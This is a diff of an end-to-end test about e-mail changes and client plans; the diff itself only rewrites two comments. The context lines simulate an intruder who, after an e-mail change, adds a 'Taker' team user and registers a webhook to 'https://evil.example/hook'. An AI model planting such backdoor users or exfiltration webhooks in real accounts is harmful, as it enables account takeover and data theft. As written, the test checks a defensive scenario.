@@ -1,7 +1,4 @@
-/**
- * Another address from the profile to the letters and back, the language of letters, and the plan of a client who is
- * switched on.
- */
+/** E-mail changes from the profile to the mails and back, mail language, and an activated client's plan. */
 import { linkTo } from '../support/outbox.ts'
 import { expectOk, makeClient, signIn, until } from '../support/weir.ts'
 import { ADMIN, expect, expectAccessible, signInAs, test } from './fixture.ts'
@@ -30,7 +27,7 @@ test(
 
     await page.goto(panel(await linkTo(weir, next, 'confirm-email')))
     await expect(page.getByText('Email Confirm Successful')).toBeVisible()
-    // whoever has the account makes ways of their own
+    // an intruder adds access of their own
     const mate = { email: `taker-${client.email}`, password: PASSWORD, name: 'Taker', limit: 1 }
     await expectOk(weir.call('POST', '/v1/teamUsers/addTeamUser', mate, client.token))
     await expectOk(weir.call('POST', '/v1/notification/webhook', { url: 'https://evil.example/hook' }, client.token))
